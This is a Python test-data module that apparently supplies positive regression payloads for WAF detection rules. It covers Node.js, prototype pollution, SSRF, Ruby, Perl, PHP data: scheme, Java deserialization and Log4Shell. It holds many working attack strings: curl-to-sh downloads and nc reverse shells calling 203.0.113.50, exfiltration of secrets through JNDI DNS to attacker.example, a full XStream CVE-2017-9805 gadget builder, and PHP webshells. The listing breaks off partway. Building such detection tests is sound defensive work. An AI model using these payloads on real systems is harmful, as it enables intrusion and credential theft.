"""Blind set "hundredfourth": a twelfth author writes the positive regression tests of the generic (Node.js,
SSRF, prototype pollution, Ruby, Perl, DoS, data: scheme), Java and server-side template injection titles,
from the titles alone, each payload as it sits inside a real request.

Angle: a careful rule author's positive tests, one sub-family per detection title: the canonical attack the title
names, then one test per alternative of the family (every module, class, gadget, method, scheme, cloud, address
form, interpreter construct or template engine the author knows), then the variants a good rule must still catch
(other quoting, casing, whitespace and comment substitutes, concatenation, URL and double URL encoding, HTML and
XML entities, \\u escapes in JSON). Every payload is written as a real request carries it: after legitimate data
in the same value (a search term, a name, a file name, a sentence), wrapped in the value's own syntax (a JSON
string or document, a list, a CSV cell, a query-string fragment, an XML body, a multipart file name).

Families and sub-families (CRS 3.3.4 titles, then the later 4.x titles, then the template engines):
- generic: nodejs-injection (934100, 4.x 1/2), nodejs-injection-2of2, prototype-pollution, ssrf-cloud-metadata,
  ssrf-ip-address, ruby-injection, perl-injection, nodejs-dos, php-data-scheme.
- java: java-suspicious-class-rce (944100), java-process-spawn (944110, CVE-2017-9805),
  java-serialization-rce (944120, CVE-2015-4852), java-suspicious-class (944130), java-magic-bytes (944200),
  java-magic-bytes-base64 (944210), java-serialization-gadget (944240), java-suspicious-method (944250 and the
  4.x title of the same name), log4shell, java-class-loading, java-script-upload.
- ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, and the engines the author
  also knows (mako, nunjucks, ejs, tornado).

Placements: each payload is sent twice. Once to our real routes, rotating over the query of /api/users, the form
of /admin/users/search (with csrf_token), the JSON of /api/users (plain, or with letters written as \\u escapes),
a cookie, the User-Agent, the Referer, X-Api-Version, a parameter name, an XML body, a multipart field, a
multipart file name and the URL path. Once the way a WAF's regression suite sends it ("rs-" placements): to paths
that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary
parameter names (foo, var, x, test, id, arg1), as a query string, a form body, a JSON body, an XML body, a raw
form-typed body, or in the User-Agent, the Referer, a custom header or a cookie. Payloads that only make sense in
one syntax keep to the places that carry it: raw percent-encoded bytes (Java serialization magic) to places a
server URL-decodes, query-string fragments (Spring class loading, bracketed pollution) to queries, forms and
multipart fields, whole JSON or XML documents to bodies, file names to uploads.

Benign requests carry the same words innocently: Slack messages and bios of developers and support staff talking
about Node, Java, Ruby, Perl and templates, searches, admin-panel prose, documentation links, profiles with names
and addresses, uploads of ordinary files, real client User-Agents and Referers.

Authorship and independence: written from general knowledge of each attack family and from the detection titles
alone, without reading any WAF rule, any ruleset regression test or any public payload list; measured once on
unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, link_requests, prose_request
from .records import numbered, print_records

NAME = "hundredfourth"

# kinds of payload: how a value is written into a request
V = "v"          # a value: the placement encodes it as its syntax needs
PRE = "pre"      # a value already percent-encoded (raw bytes): inserted as is where a server URL-decodes
KV = "kv"        # a query-string fragment (name=value pairs): inserted as is into a query, form or multipart
DOC = "doc"      # a whole JSON or XML document: sent as a body
JRAW = "jraw"    # the inside of a JSON string literal, escapes included: inserted as is into a JSON body
FILE = "file"    # an uploaded file's name

Entry = str | tuple[str, str]

ATTACKER = "203.0.113.50"


# ---------------------------------------------------------------------------------------------- generic (934)
NODEJS_1: list[Entry] = [
    "gaming laptop'); require('child_process').exec('curl -s http://203.0.113.50/x.sh | sh'); //",
    "{\"sort\":\"price\",\"where\":\"1; process.mainModule.require('child_process').execSync('id').toString()\"}",
    "Alice\"; global.process.mainModule.constructor._load(\"child_process\").execSync(\"cat /etc/passwd\"); \"",
    "{\"username\":\"guest\",\"country\":\"FR\",\"exp\":\"_$$ND_FUNC$$_function(){require('child_process')"
    ".exec('ls /', function(e,o){console.log(o)});}()\"}",
    "1 + require(\"child_process\").spawn(\"/bin/sh\", [\"-c\", \"nc 203.0.113.50 4444 -e /bin/sh\"])",
    "invoice-7731.pdf' + require('fs').readFileSync('/etc/passwd', 'utf8') + '",
    "price>10 && res.end(require('child_process').execSync('uname -a'))",
    "2;  require ( 'child_process' ) . execSync ( 'whoami' )",
    "Bob`);require(`child_process`).execFileSync(`/usr/bin/id`);//",
    "notes'];process['mainModule']['require']('child_process')['execSync']('id');//",
    "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp','base64').toString())",
    "red%27%29%3Brequire%28%27child_process%27%29.exec%28%27id%27%29%3B%2F%2F",
    "[\"title\", \"x'); require('child_process').exec('touch /tmp/pwn'); //\"]",
    "summer dress ${import('child_process').then(m=>m.execSync('id'))}",
]
NODEJS_2: list[Entry] = [
    "Dear customer, ${[].constructor.constructor('return process')().env.DB_PASSWORD}",
    "x'+new Function('return this.process')().exit(1)+'",
    "Function(\"return require\")()(\"fs\").writeFileSync(\"/tmp/pwn\", \"1\")",
    "report; setTimeout('process.kill(process.pid)', 10)",
    "setInterval(\"require('http').get('http://203.0.113.50/'+process.env.AWS_SECRET_ACCESS_KEY)\", 5000)",
    "vm.runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
    "sum(a,b); require('vm').runInThisContext(\"process.env\")",
    "fs.readFileSync('/proc/self/environ').toString()",
    "Reflect.construct(Function, ['return process'])().mainModule",
    "(async()=>{}).constructor('return process')()",
    "{\"name\":\"report\",\"handler\":{\"__js_function\":\"function(){return process.env}\"}}",
    "Object.getPrototypeOf(function*(){}).constructor('return globalThis.process')()",
    "module.constructor._load('fs').readdirSync('/')",
    "this[\"constr\"+\"uctor\"][\"constr\"+\"uctor\"](\"return pro\"+\"cess\")()",
]
POLLUTION: list[Entry] = [
    (KV, "sort=name&__proto__[isAdmin]=true"),
    (KV, "q=shoes&filter[__proto__][polluted]=yes"),
    (KV, "constructor[prototype][admin]=1&name=bob"),
    (KV, "user.name=ann&__proto__.role=admin"),
    (KV, "q=x&a[constructor][prototype][toString]=polluted"),
    (KV, "page=2&__proto__%5BisAdmin%5D=true"),
    (KV, "theme=dark&settings[__pro__proto__to__][shell]=/bin/sh"),
    (DOC, "{\"name\":\"ann\",\"prefs\":{\"theme\":\"dark\",\"__proto__\":{\"isAdmin\":true}}}"),
    (DOC, "{\"email\":\"a@example.org\",\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    (DOC, "{\"title\":\"hello\",\"__proto__\":{\"outputFunctionName\":"
          "\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    (DOC, "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"isAdmin\":true},\"name\":\"ann\"}"),
    (DOC, "[{\"op\":\"add\",\"path\":\"/__proto__/polluted\",\"value\":\"yes\"}]"),
    "profile.__proto__.isAdmin",
    (DOC, "{\"a\":1,\"__proto__\":{\"json spaces\":10,\"status\":510}}"),
]
SSRF_META: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "https://cdn.example.com/logo.png, http://169.254.169.254/latest/user-data",
    "[\"https://example.org/a.jpg\",\"http://metadata.google.internal/computeMetadata/v1/instance/"
    "service-accounts/default/token\"]",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01&format=json",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/metadata/v1/user-data",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/3f4e2c1a-8d2b-4b7e-9c1a-0f2e3d4c5b6a",
    "http://metadata/computeMetadata/v1/project/attributes/?recursive=true&alt=text",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    "https://example.com@169.254.169.254/latest/dynamic/instance-identity/document",
]
SSRF_IP: list[Entry] = [
    "http://127.0.0.1:8080/manager/html",
    "{\"avatar\":\"http://2130706433/admin/\"}",
    "http://0x7f000001:6379/",
    "http://0177.0.0.01/server-status",
    "http://[::1]:2375/containers/json",
    "http://[0:0:0:0:0:ffff:7f00:1]/",
    "http://127.1/admin",
    "gopher://10.0.0.7:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "http://192.168.0.1/cgi-bin/luci/;stok=/locale",
    "dict://172.17.0.1:11211/stats",
    "http://0x7f.0x00.0x00.0x01/",
    "https://partner.example.net/feed.xml,http://017700000001:22/",
    "ftp://198.51.100.23/pub/incoming/",
    "http://user:pass@203.0.113.77:8443/internal/api",
]
RUBY: list[Entry] = [
    "John #{`id`}",
    "Smith\"; system(\"cat /etc/passwd\"); \"",
    "1; %x(curl http://203.0.113.50/r.sh | sh)",
    "ann\" + IO.popen(\"id\").read + \"",
    "x; Kernel.exec(\"/bin/sh -i\")",
    "require 'open3'; Open3.capture2(\"whoami\")",
    "Weekly report #{eval(\"File.read('/etc/passwd')\")}",
    "[].send(:eval, \"system('id')\")",
    "Object.const_get(:Kernel).public_send(:system, \"id\")",
    "User.instance_eval { system('id') }",
    "title #{File.open(\"/etc/passwd\").read}",
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs: []\n",
    "Process.spawn(\"nc -e /bin/sh 203.0.113.50 4444\")",
    "Hi #{open('|id').read}",
]
PERL: list[Entry] = [
    "1; system(\"cat /etc/passwd\");",
    "/usr/bin/id|",
    "Dear @{[ system \"id\" ]}",
    "Hello ${\\ `whoami` }",
    "x; exec \"/bin/sh -i\";",
    "name qx{cat /etc/shadow}",
    "eval \"print `id`\"",
    "use IO::Socket; $s=IO::Socket::INET->new(\"203.0.113.50:4444\"); open(STDIN,\">&\",$s); exec(\"/bin/sh -i\");",
    "open(my $fh, \"-|\", \"uname -a\")",
    "bob'; $_ =~ s/.*/system(\"id\")/ee; '",
    "print readpipe(\"whoami\")",
    "1; do \"/var/tmp/.x.pl\";",
    "print $ENV{'AWS_SECRET_ACCESS_KEY'};",
    "ok\"; system qw(rm -rf /tmp/cache); \"",
]
NODE_DOS: list[Entry] = [
    "while(true){}",
    "{\"code\":\"let i=0; while (1) { i++ }\"}",
    "total; while(!0);",
    "while(!false){}",
    "=SUM(A1:A3); for(;;){}",
    "x = 1; for (;;) ;",
    "while([]){}",
    "while({}){}",
    "do {} while (true)",
    "while(!!1){}",
    "while(this)x=1",
    "while(1==1){}",
    "'a'.repeat(2**30)",
    "while ( true ) { process.nextTick(()=>{}) }",
]
DATA_SCHEME: list[Entry] = [
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php echo shell_exec('id'); ?>",
    "DATA://text/plain;base64,PD9waHAgcGFzc3RocnUoJ2lkJyk7Pz4=",
    "data:;base64,PD9waHAgZXZhbCgkX1BPU1RbMF0pOz8+",
    "data://application/x-httpd-php;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgc3lzdGVtKCdpZCcpOz8%2B",
    "data://text/plain;charset=utf-8,<?=`id`?>",
    "data:image/gif;base64,R0lGODlhPD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "data://text/plain,%3C?php%20system(%22id%22);?%3E",
    "data:,<?php passthru($_GET[0]);?>",
    "  data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "/index.php?page=data://text/plain;base64,PD9waHAgcGFzc3RocnUoJ2lkJyk7Pz4=",
    "data://text/plain;base64,PD9waHAgZmlsZV9wdXRfY29udGVudHMoJ3MucGhwJywgJzw/cGhwIEBldmFsKCRfUE9TVFsxXSk7Pz4nKTs/Pg==",
]


# ------------------------------------------------------------------------------------------------ java (944)
def _xstream(command: list[str], pb: str = "java.lang.ProcessBuilder", sep: str = "") -> str:
    """The CVE-2017-9805 body (Struts REST plugin, XStream): a NativeString whose Base64Data data source iterates
    into ProcessBuilder.start; `sep` between the elements (a pretty-printed body)."""
    cmd = sep.join(f"<string>{c}</string>" for c in command)
    ns = "jdk.nashorn.internal.objects.NativeString"
    parts = [
        "<map>", "<entry>", "<jdk.nashorn.internal.objects.NativeString>", "<flags>0</flags>",
        "<value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\">", "<dataHandler>",
        "<dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\">",
        "<is class=\"javax.crypto.CipherInputStream\">", "<cipher class=\"javax.crypto.NullCipher\">",
        "<initialized>false</initialized>", "<opmode>0</opmode>",
        "<serviceIterator class=\"javax.imageio.spi.FilterIterator\">",
        "<iter class=\"javax.imageio.spi.FilterIterator\">", "<iter class=\"java.util.Collections$EmptyIterator\"/>",
        f"<next class=\"{pb}\">", f"<command>{cmd}</command>",
        "<redirectErrorStream>false</redirectErrorStream>", "</next>", "</iter>",
        "<filter class=\"javax.imageio.ImageIO$ContainsFilter\">", "<method>", f"<class>{pb}</class>",
        "<name>start</name>", "<parameter-types/>", "</method>", "<name>foo</name>", "</filter>",
        "<next class=\"string\">foo</next>", "</serviceIterator>", "<lock/>", "</cipher>",
        "<input class=\"java.lang.ProcessBuilder$NullInputStream\"/>", "<ibuffer></ibuffer>", "<done>false</done>",
        "<ostart>0</ostart>", "<ofinish>0</ofinish>", "<closed>false</closed>", "</is>",
        "<consumed>false</consumed>", "</dataSource>", "<transferFlavors/>", "</dataHandler>",
        "<dataLen>0</dataLen>", "</value>", "</jdk.nashorn.internal.objects.NativeString>",
        f"<{ns} reference=\"../{ns}\"/>", "</entry>", "<entry>",
        f"<{ns} reference=\"../../entry/{ns}\"/>", f"<{ns} reference=\"../../entry/{ns}\"/>",
        "</entry>", "</map>"]
    return sep.join(parts)


JAVA_CLASS_RCE: list[Entry] = [
    "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}",
    "Order note: ${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwned')}",
    "def p = new java.lang.ProcessBuilder(['sh','-c','id']).start(); println p.text",
    (DOC, "<?xml version=\"1.0\" encoding=\"UTF-8\"?><java version=\"1.8.0_151\" class=\"java.beans.XMLDecoder\">"
          "<object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\">"
          "<void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string></void>"
          "<void index=\"2\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    "java.lang.Runtime . getRuntime ( ) . exec ( \"id\" )",
    "java%2Elang%2ERuntime%40getRuntime%28%29.exec%28%27id%27%29",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(null).exec(\"id\")}",
    "new java.lang.ProcessBuilder(\"bash\",\"-c\",\"id\").start()",
    "Packages.java.lang.Runtime.getRuntime().exec(\"id\")",
    "java.lang.Runtime.getRuntime().exec(new java.lang.String[]{\"cmd.exe\",\"/c\",\"whoami\"})",
    (JRAW, "java.lang.\\u0052untime.getRuntime().exec(\\u0022id\\u0022)"),
    "(#cmd='whoami').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.redirectErrorStream(true))"
    ".(#p.start())",
    (DOC, "{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}"),
]
JAVA_SPAWN: list[Entry] = [
    (DOC, _xstream(["touch", "/tmp/pwned"])),
    (DOC, _xstream(["/bin/sh", "-c", "curl http://203.0.113.50/s|sh"])),
    (DOC, _xstream(["calc.exe"], sep="\n  ")),
    (DOC, "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
          "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
          "<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    "value class=com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data next class=java.lang.ProcessBuilder",
    (DOC, "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2."
          "runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding."
          "xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><next class=\"java.lang."
          "ProcessBuilder\"><command><string>id</string></command></next></is></dataSource></dataHandler></value>"
          "</jdk.nashorn.internal.objects.NativeString></entry></map>"),
    (DOC, "<map><entry><method><class>java.lang.Runtime</class><name>exec</name></method><dataSource class="
          "\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"/></entry></map>"),
    (DOC, _xstream(["id"], pb="java&#46;lang&#46;ProcessBuilder")),
    _xstream(["wget", "http://203.0.113.50/b", "-O", "/tmp/b"]),
    (DOC, "{\"next\":{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]},"
          "\"dataSource\":\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"}"),
    "<next class=\"JAVA.LANG.PROCESSBUILDER\"><command><string>id</string></command></next>"
    "<value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"/>",
    "processbuilder start base64data java.util.Collections$EmptyIterator",
]
JAVA_SER_RCE: list[Entry] = [
    (DOC, "<org.apache.commons.collections.functors.ChainedTransformer><iTransformers>"
          "<org.apache.commons.collections.functors.ConstantTransformer><iConstant class=\"java-class\">"
          "java.lang.Runtime</iConstant></org.apache.commons.collections.functors.ConstantTransformer>"
          "<org.apache.commons.collections.functors.InvokerTransformer><iMethodName>exec</iMethodName><iArgs>"
          "<string>id</string></iArgs></org.apache.commons.collections.functors.InvokerTransformer></iTransformers>"
          "</org.apache.commons.collections.functors.ChainedTransformer>"),
    "ChainedTransformer[ConstantTransformer(java.lang.Runtime.class), InvokerTransformer(\"getMethod\"), "
    "InvokerTransformer(\"invoke\"), InvokerTransformer(\"exec\", \"calc\")]",
    (DOC, "[\"org.apache.commons.collections.functors.InstantiateTransformer\",{\"iParamTypes\":[\"[Ljava.lang."
          "String;\"],\"iArgs\":[[\"id\"]]},\"java.lang.ProcessBuilder\"]"),
    "invokertransformer getruntime java.lang.runtime",
    "org.apache.commons.collections4.functors.InstantiateFactory(java.lang.ProcessBuilder, [\"id\"])",
    "PrototypeCloneFactory java.lang.Runtime.getRuntime()",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory -> Runtime.exec",
    "WhileClosure(InvokerTransformer(\"exec\")) on java.lang.Runtime",
    "ForClosure(3, InstantiateTransformer(java.lang.ProcessBuilder))",
    "CloneTransformer with Runtime.getRuntime().exec(\"id\")",
    (DOC, "<java class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\">"
          "<void method=\"exec\"><string>id</string></void></object></java>"),
    "System.getProperty(\"os.name\"); Runtime.getRuntime().exec(\"id\")",
    (PRE, "%AC%ED%00%05sr%00%3Aorg.apache.commons.collections.functors.InvokerTransformer%87%E8%FFk%7B%7C%CE8%02%00"
          "%03%5B%00%05iArgst%00%13%5BLjava%2Flang%2FObject%3BL%00%0BiMethodNamet%00%12Ljava%2Flang%2FString%3B%5B"
          "%00%0BiParamTypest%00%12%5BLjava%2Flang%2FClass%3Bxpt%00%04execvr%00%11java.lang.Runtimet%00%0A"
          "getRuntime"),
    (DOC, "<a><b>org.apache.commons.collections.functors.&#73;nvokerTransformer</b><c>java.lang.&#82;untime</c></a>"),
]
JAVA_CLASS: list[Entry] = [
    (DOC, "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://203.0.113.50:1389/Exploit\","
          "\"autoCommit\":true}]"),
    (DOC, "{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":"
          "[\"yv66vgAAADQA\"],\"_name\":\"a\",\"_tfactory\":{},\"_outputProperties\":{}}"),
    "%{#a=@java.lang.System@getProperty('user.dir')}",
    "(#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter().println('ok'))",
    "new java.io.FileOutputStream(\"/var/www/html/shell.jsp\").write(data)",
    "java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL(\"http://203.0.113.50/x.jar\")})",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"1+1\")",
    "new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(buf)).readObject()",
    (DOC, "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
          "<default><size>2</size><comparator class=\"org.apache.commons.beanutils.BeanComparator\"><property>"
          "outputProperties</property></comparator></default></java.util.PriorityQueue></java.util.PriorityQueue>"),
    "x'+java.lang.Thread.sleep(10000)+'",
    "s = new java.net.Socket(\"203.0.113.50\", 4444)",
    "{\"handler\":\"org.codehaus.groovy.runtime.MethodClosure\",\"method\":\"execute\"}",
    "java.lang.reflect.Method m = java.lang.ClassLoader.class.getDeclaredMethod(\"defineClass\")",
    "new javax.naming.InitialContext().lookup(\"rmi://203.0.113.50:1099/x\")",
]
JAVA_MAGIC: list[Entry] = [
    (PRE, "%AC%ED%00%05t%00%06whoami"),
    (PRE, "%AC%ED%00%05sr%00%11java.util.HashMap%05%07%DA%C1%C3%16%60%D1%03%00%02F%00%0AloadFactorI%00%09"
          "thresholdxp%3F%40%00%00%00%00%00%0Cw%08%00%00%00%10%00%00%00%01t%00%03keyt%00%05shellx"),
    (PRE, "%AC%ED%00%05ur%00%13%5BLjava.lang.Object%3B%90%CEX%9F%10s%29l%02%00%00xp%00%00%00%01"),
    (PRE, "%AC%ED%00%05sr%002sun.reflect.annotation.AnnotationInvocationHandlerU%CA%F5%0F%15%CB~%A5%02%00%02L%00"
          "%0CmemberValuest%00%0FLjava%2Futil%2FMap%3BL%00%04typet%00%11Ljava%2Flang%2FClass%3Bxp"),
    (PRE, "%ac%ed%00%05sr%00%11java.util.HashMap%05%07%da%c1%c3%16%60%d1%03%00%02F%00%0aloadFactor"),
    (PRE, "order-42%AC%ED%00%05t%00%04test"),
    (PRE, "%AC%ED%00%05w%04%00%00%00%01"),
    (PRE, "%AC%ED%00%05sr%00%3Aorg.apache.commons.collections.functors.InvokerTransformer%87%E8%FFk%7B%7C%CE8"),
    "aced0005737200116a6176612e7574696c2e486173684d61700507dac1c31660d1",
    "ACED000574000677686F616D69",
    "\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap",
    "0xACED0005737200116A6176612E7574696C2E486173684D6170",
]
JAVA_MAGIC_B64: list[Entry] = [
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB"
    "dAADa2V5dAAFc2hlbGx4",
    "rO0ABXQABndob2FtaQ==",
    "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFs"
    "dWVzdAAPTGphdmEvdXRpbC9NYXA7TAAEdHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHA=",
    "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAE=",
    "AKztAAVzcgARamF2YS51dGlsLkhhc2hNYXAFB9rBwxZg0QMAAkYACmxvYWRGYWN0b3JJAAl0aHJlc2hvbGR4cD9AAAAAAAAMdwgAAAAQAAAAAX"
    "QAA2tleXQABXNoZWxseA==",
    "AQKs7QAFc3IAEWphdmEudXRpbC5IYXNoTWFwBQfawcMWYNEDAAJGAApsb2FkRmFjdG9ySQAJdGhyZXNob2xkeHA/QAAAAAAADHcIAAAAEAAAAA"
    "F0AANrZXl0AAVzaGVsbHg=",
    (KV, "j_idt12=j_idt12&j_idt12%3Asubmit=Go&javax.faces.ViewState=rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwC"
         "AAB4cAAAAAE%3D"),
    (PRE, "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVy"
          "VmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7TAAEdHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHA%3D"),
    (DOC, "{\"type\":\"session\",\"data\":\"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==\"}"),
    "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFs"
    "dWVzdAAPTGphdmEvdXRpbC9NYXA7TAAEdHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHA",
    "Bearer rO0ABXQABndob2FtaQ",
    "[\"abc\",\"rO0ABXQABndob2FtaQ==\"]",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVz\naG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB"
    "dAADa2V5dAAFc2hlbGx4",
    "AQKs7QAFdXIAE1tMamF2YS5sYW5nLk9iamVjdDuQzlifEHMpbAIAAHhwAAAAAQ==",
]
JAVA_SER_GADGET: list[Entry] = [
    "org.apache.commons.collections.functors.InvokerTransformer",
    "{\"@class\":\"org.apache.commons.collections4.functors.InstantiateTransformer\"}",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeCloneFactory",
    "org.apache.commons.collections.functors.InstantiateFactory",
    (DOC, "<java version=\"1.8.0_151\" class=\"java.beans.XMLDecoder\"><object class=\"java.io.FileWriter\">"
          "<string>/tmp/x.jsp</string><void method=\"write\"><string>hello</string></void><void method=\"close\"/>"
          "</object></java>"),
    "Version: ${System.getProperty(\"java.version\")}",
    "new java.io.FileWriter(\"/var/www/html/x.jsp\")",
    (JRAW, "org.apache.commons.collections.functors.\\u0049nvokerTransformer"),
    (PRE, "%AC%ED%00%05sr%00%3Aorg.apache.commons.collections.functors.InvokerTransformer%87%E8%FFk%7B%7C%CE8%02%00"
          "%03%5B%00%05iArgst%00%13%5BLjava%2Flang%2FObject%3BL%00%0BiMethodNamet%00%12Ljava%2Flang%2FString%3B"),
    (DOC, "{\"@type\":\"org.apache.commons.collections.functors.WhileClosure\",\"iPredicate\":{},\"iClosure\":{}}"),
    "gadget chain: forclosure -> clonetransformer",
    "ORG.APACHE.COMMONS.COLLECTIONS.FUNCTORS.INVOKERTRANSFORMER",
    "java.beans.XMLDecoder(new java.io.ByteArrayInputStream(xml.getBytes())).readObject()",
]
JAVA_METHOD: list[Entry] = [
    "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime')}",
    "${pageContext.getClass().getClassLoader().getParent()}",
    "Class.forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\")"
    ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")",
    "x.getClass().getMethod(\"getRuntime\").invoke(null).exec(\"id\")",
    "Thread.currentThread().getContextClassLoader().loadClass(\"Exploit\").newInstance()",
    "java.lang.reflect.Constructor c = k.getDeclaredConstructor(); c.setAccessible(true); c.newInstance();",
    "new java.util.Scanner(java.lang.Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\")"
    ".next()",
    "java.lang.System.setSecurityManager(null); java.lang.System.exit(0)",
    "org.apache.commons.io.IOUtils.toString(java.lang.Runtime.getRuntime().exec(\"id\").getInputStream())",
    "java.lang.invoke.MethodHandles.lookup().findStatic(java.lang.Runtime.class, \"getRuntime\", mt)",
    "((java.lang.ClassLoader) java.lang.Thread.currentThread().getContextClassLoader()).defineClass(\"X\", b, 0, "
    "b.length)",
    "java.util.Base64.getDecoder().decode(\"yv66vgAAADQA\")",
    "java.lang.Runtime.getRuntime().availableProcessors()",
    "${''.getClass().forName('java.lang.ProcessBuilder').getConstructors()[0]}",
]
LOG4J: list[Entry] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${jndi:ldap://203.0.113.50:1389/Exploit}",
    "john.doe${jndi:rmi://203.0.113.50:1099/obj}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/o}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "search=${jndi:ldaps://attacker.example/${sys:java.version}}",
    (JRAW, "\\u0024\\u007bjndi:ldap://attacker.example/u\\u007d"),
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/x}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    "${jndi:iiop://attacker.example/x} ${jndi:corba://attacker.example/x} ${jndi:nis://attacker.example/x}",
    "${jNdI:LdAp://attacker.example/a}",
]
CLASS_LOADING: list[Entry] = [
